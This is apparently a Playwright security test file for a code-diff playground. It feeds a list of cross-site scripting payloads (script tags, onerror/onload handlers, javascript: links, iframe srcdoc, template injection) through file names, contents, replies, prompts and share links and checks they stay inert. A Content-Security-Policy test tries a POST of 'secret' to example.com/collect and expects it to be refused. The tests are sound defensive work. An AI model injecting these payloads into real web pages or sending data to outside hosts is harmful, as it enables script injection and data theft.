// Hostile text in every place the playground shows text: file names (rename
// field, file picker, share link, session file), file contents, the reply,
// the prompt, the diagnostics that quote them, the model's view, the
// Markdown issue. None of it may run: no dialog, `window.__pwned` stays
// unset, no page error, and no element carries an `on…` attribute, a
// `javascript:` link or a frame. And the page's Content-Security-Policy
// refuses inline script and plain-http connections to other hosts.

import { test, expect, type Page } from '@playwright/test';
import { encodeSession, type Session } from '../../src/share/share.ts';

const PAYLOADS = [
  '<script>window.__pwned = 1; alert(1)</script>',
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '<svg onload="window.__pwned=1;alert(1)"><circle r=1 /></svg>',
  '"><script>window.__pwned=1;alert(1)</script>',
  "'><img src=x onerror=window.__pwned=1>",
  '</textarea><img src=x onerror="window.__pwned=1;alert(1)">',
  '</pre></code><svg/onload=window.__pwned=1>',
  '<a href="javascript:window.__pwned=1;alert(1)">click me</a>',
  'javascript:window.__pwned=1;alert(1)',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '{{constructor.constructor("window.__pwned=1")()}}',
];
const ALL = PAYLOADS.join('\n') + '\n';
const EVIL_NAME = '<img src=x onerror=alert(1)>.py';
const EVIL_NAME_2 = '"><svg onload=window.__pwned=1>.txt';

/** A reply in the ln-diff format whose edits fail against the hostile file, so the diagnostics quote both. */
const REPLY = `Here is a fix ${PAYLOADS[1]}

${EVIL_NAME}
<editblock>
<<<<<<< REMOVE
2│${PAYLOADS[6]} and then some
=======
 │${PAYLOADS[0]}
>>>>>>> INSERT
</editblock>

${EVIL_NAME}
<editblock>
<<<<<<< REMOVE
3│${PAYLOADS[2]}
=======
 │${PAYLOADS[7]}
>>>>>>> INSERT
</editblock>

${EVIL_NAME_2}
<editblock>
<<<<<<< REMOVE
1│${PAYLOADS[4]}
=======
 │${PAYLOADS[9]}
>>>>>>> INSERT
</editblock>
${PAYLOADS.slice(8).join('\n')}
`;

const SESSION: Session = {
  format: 'auto',
  files: [
    { name: EVIL_NAME, text: ALL },
    { name: EVIL_NAME_2, text: ALL },
  ],
  reply: REPLY,
  prompt: `System: ${PAYLOADS.join(' ')}`,
};

function watch(page: Page) {
  const errors: string[] = [];
  const dialogs: string[] = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  return { errors, dialogs };
}

/** Nothing a payload could have made: event-handler attributes, javascript: links, frames, payload scripts. */
async function expectInert(page: Page, seen: { errors: string[]; dialogs: string[] }) {
  // give any injected handler (an image error, an svg load) time to fire
  await page.waitForTimeout(300);
  const found = await page.evaluate(() => {
    const bad: string[] = [];
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        if (/^on/i.test(attr.name)) bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
        if (/^\s*javascript:/i.test(attr.value) && /^(href|src|action|formaction|xlink:href)$/i.test(attr.name)) bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
      if (/^(IFRAME|OBJECT|EMBED)$/.test(el.tagName)) bad.push(el.tagName);
      if (el.tagName === 'SCRIPT' && (el.textContent ?? '').includes('__pwned')) bad.push('SCRIPT with payload');
      if (el.tagName === 'IMG' && el.getAttribute('src') === 'x') bad.push('IMG src=x');
      if (el.tagName.toLowerCase() === 'svg' && el.closest('.cm-editor, .pg') && el.querySelector('circle[r="1"]')) bad.push('payload SVG');
    }
    return { bad, pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null };
  });
  expect(found.bad).toEqual([]);
  expect(found.pwned).toBeNull();
  expect(seen.dialogs).toEqual([]);
  expect(seen.errors).toEqual([]);
}

const diagnostics = (page: Page) => page.getByRole('region', { name: 'Diagnostics', exact: true });

/** The Markdown of an issue with its fenced blocks removed: what a Markdown renderer would read as markup. */
function outsideFences(markdown: string): string {
  const out: string[] = [];
  let fence: string | null = null;
  for (const line of markdown.split('\n')) {
    const m = /^\s*(`{3,}|~{3,})/.exec(line);
    if (fence === null && m) fence = m[1];
    else if (fence !== null && m && m[1] === fence && line.trim() === fence) fence = null;
    else if (fence === null) out.push(line);
  }
  return out.join('\n');
}

test.describe('hostile text', () => {
  test('a share link with hostile names, contents, reply and prompt: shown as text everywhere', async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const seen = watch(page);
    await page.goto(`/playground/#${encodeSession(SESSION)}`);
    // names are text in the tabs, the rename field and the result picker
    await expect(page.getByRole('tab', { name: EVIL_NAME, exact: true })).toBeVisible();
    await expect(page.getByRole('tab', { name: EVIL_NAME_2, exact: true })).toBeVisible();
    await expect(page.getByLabel('File name', { exact: true })).toHaveValue(EVIL_NAME);
    // the diagnostics quote the cited lines and the file's lines
    await expect(diagnostics(page).locator('li.ld-row')).toHaveCount(3);
    await expect(diagnostics(page)).toContainText(EVIL_NAME);
    await expect(diagnostics(page)).toContainText('failed');
    await expect(diagnostics(page)).toContainText(`line 7 is "${PAYLOADS[6]}"`);
    await expect(page.getByRole('combobox', { name: 'File', exact: true })).toContainText(EVIL_NAME);
    // the source editor shows the payloads as text
    await expect(page.getByLabel(`Source: ${EVIL_NAME}`)).toContainText(PAYLOADS[1]);
    await expect(page.getByLabel('Model reply')).toContainText(PAYLOADS[1]);
    // the prompt
    const promptBox = page.locator('#pg-prompt-box');
    await promptBox.locator('summary').click();
    await expect(page.locator('#pg-prompt')).toHaveText(SESSION.prompt!);
    // the source as a model sees it
    await page.getByText('Show the source as the model sees it').click();
    await expect(page.locator('#pg-view')).toContainText(PAYLOADS[0]);
    await expect(page.locator('#pg-view-caption')).toContainText(EVIL_NAME);
    // selecting an edit draws the inline comparison of cited and actual text
    await diagnostics(page).locator('li.ld-row').first().locator('button').first().click();
    await expectInert(page, seen);

    // the Markdown issue: outside the fences, nothing a renderer would take as markup
    await page.getByRole('button', { name: 'Copy as Markdown issue' }).click();
    await expect(page.getByRole('status')).toContainText('Markdown issue copied');
    const issue = await page.evaluate(() => navigator.clipboard.readText());
    expect(issue).toContain(PAYLOADS[1]); // inside a fence: the text as it is
    const markup = outsideFences(issue);
    for (const bad of ['<script', '<img', '<svg', '<iframe', '<details open ontoggle', '<a href="javascript']) expect(markup).not.toContain(bad);
    expect(markup).toContain('&lt;img src=x onerror=alert(1)&gt;.py');
    await expectInert(page, seen);
  });

  test('hostile names through the rename field and the file picker, contents typed and pasted', async ({ page }) => {
    const seen = watch(page);
    await page.goto('/playground/');
    await expect(page.getByRole('tab')).toHaveCount(1);
    for (const [i, name] of [EVIL_NAME, EVIL_NAME_2, PAYLOADS[5], PAYLOADS[7]].entries()) {
      await page.getByRole('button', { name: 'Add file' }).click();
      await page.getByLabel('File name', { exact: true }).fill(name);
      await page.getByLabel('File name', { exact: true }).press('Enter');
      await expect(page.getByRole('tab', { name, exact: true })).toHaveAttribute('aria-selected', 'true');
      await expect(page.getByRole('status')).toContainText(` to ${name}.`);
      await page.getByLabel(`Source: ${name}`).fill(PAYLOADS.slice(i).join('\n'));
    }
    await page.locator('#pg-file-input').setInputFiles({ name: '<svg onload=alert(1)>.js', mimeType: 'text/plain', buffer: Buffer.from(ALL) });
    await expect(page.getByRole('tab', { name: '<svg onload=alert(1)>.js', exact: true })).toBeVisible();
    await expect(page.getByRole('status')).toContainText('Added <svg onload=alert(1)>.js');
    // a hostile reply, typed
    await page.getByLabel('Model reply').fill(REPLY);
    await expect(diagnostics(page).locator('li.ld-row')).toHaveCount(3);
    await expect(diagnostics(page)).toContainText(EVIL_NAME);
    // a name that is refused is quoted in the message as text
    await page.getByLabel('File name', { exact: true }).fill(EVIL_NAME);
    await page.getByLabel('File name', { exact: true }).press('Enter');
    await expect(page.getByRole('status')).toContainText(`There is already a file named ${EVIL_NAME}.`);
    await expectInert(page, seen);
  });

  test('a hostile session file', async ({ page }) => {
    const seen = watch(page);
    await page.goto('/playground/');
    await expect(page.getByRole('tab')).toHaveCount(1);
    const file = `${JSON.stringify({ lnDiffSession: 1, version: '<script>alert(1)</script>', ...SESSION }, null, 2)}\n`;
    await page.locator('#pg-session-input').setInputFiles({ name: '<img src=x onerror=alert(1)>.json', mimeType: 'application/json', buffer: Buffer.from(file) });
    await expect(page.getByRole('tab', { name: EVIL_NAME, exact: true })).toBeVisible();
    await expect(page.getByRole('status')).toContainText('Opened the session from <img src=x onerror=alert(1)>.json.');
    await expect(diagnostics(page).locator('li.ld-row')).toHaveCount(3);
    // a broken one is refused with a message that quotes its name as text
    await page.locator('#pg-session-input').setInputFiles({ name: '"><svg onload=alert(1)>.json', mimeType: 'application/json', buffer: Buffer.from(PAYLOADS[0]) });
    await expect(page.getByRole('alert')).toContainText('The file "><svg onload=alert(1)>.json holds no usable session');
    await expectInert(page, seen);
  });

  test('a link that is not a session, with markup in it, is refused as text', async ({ page }) => {
    const seen = watch(page);
    await page.goto(`/playground/#${encodeURIComponent(PAYLOADS[3])}`);
    await expect(page.getByRole('alert')).toContainText('This share link is broken');
    await page.goto(`/playground/#s=${encodeURIComponent(PAYLOADS[1])}`);
    await expect(page.getByRole('alert')).toContainText('This share link is broken');
    await expectInert(page, seen);
  });
});

test.describe('Content-Security-Policy', () => {
  test('inline script injected into the page does not run', async ({ page }) => {
    const seen = watch(page);
    await page.goto('/playground/');
    await expect(page.getByRole('tab')).toHaveCount(1);
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inline = 1';
      document.body.append(script);
      // Each image's error event (a listener the policy allows) says when its inline handler had its chance.
      const failed = (el: HTMLImageElement) => new Promise((r) => el.addEventListener('error', r, { once: true }));
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__inline = 2');
      const first = failed(img);
      img.src = 'data:,not-an-image';
      document.body.append(img);
      const div = document.createElement('div');
      div.innerHTML = '<img src="data:,x" onerror="window.__inline = 3">';
      const second = failed(div.querySelector('img')!);
      document.body.append(div);
      await Promise.all([first, second]);
      // Violations are reported as tasks of their own: wait for both kinds, however long the machine takes.
      while (!(violations.includes('script-src-elem') && violations.includes('script-src-attr'))) await new Promise((r) => setTimeout(r, 10));
      return { inline: (window as unknown as { __inline?: number }).__inline ?? null, violations };
    });
    expect(result.inline).toBeNull();
    expect(result.violations).toContain('script-src-elem');
    expect(result.violations).toContain('script-src-attr');
    expect(seen.dialogs).toEqual([]);
  });

  test('a fetch to a plain-http host other than the page and localhost is refused', async ({ page }) => {
    const seen = watch(page);
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await page.route('http://example.com/**', (route) => route.fulfill({ status: 200, body: 'reached' }));
    await page.goto('/playground/');
    await expect(page.getByRole('tab')).toHaveCount(1);
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      let outcome: string;
      try {
        const response = await fetch('http://example.com/collect', { method: 'POST', body: 'secret' });
        outcome = `answered ${response.status}`;
      } catch (e) {
        outcome = `refused: ${e instanceof Error ? e.name : String(e)}`;
      }
      // The violation is reported as a task of its own: wait for it, however long the machine takes.
      while (violations.length === 0) await new Promise((r) => setTimeout(r, 10));
      return { outcome, violations };
    });
    expect(result.outcome).toBe('refused: TypeError');
    expect(result.violations).toEqual(['connect-src http://example.com/collect']);
    expect(requests.filter((u) => u.startsWith('http://example.com'))).toEqual([]);
    // the page's own origin stays reachable
    const own = await page.evaluate(async () => (await fetch('/examples.json')).status);
    expect(own).toBe(200);
    expect(seen.errors).toEqual([]);
  });
});
